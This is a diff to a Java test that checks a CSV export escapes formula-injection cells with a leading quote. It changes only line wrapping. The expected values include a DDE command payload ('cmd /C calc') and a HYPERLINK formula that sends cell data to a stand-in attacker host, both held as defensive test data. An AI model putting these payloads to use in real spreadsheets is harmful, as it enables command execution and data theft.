@@ -50,7 +50,8 @@ class SpreadsheetSafeCsvCommandTest {
         assertThat(run("export", "--format", "csv", "--data", first.toString(), "--out", csv.toString())).isZero();
 
         String text = Files.readString(csv, StandardCharsets.UTF_8);
-        assertThat(text).contains(",\"'=cmd|' /C calc'!A0\",", ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",",
+        assertThat(text).contains(",\"'=cmd|' /C calc'!A0\",",
+                ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",",
                 ",\"''@already quoted\",", ",\"'-减号开头\",", ",\"'@某人\",", ",\"'+加号开头\",", ",\"'=1+1\",");
 
         assertThat(run("import", csv.toString(), "--data", second.toString())).isZero();
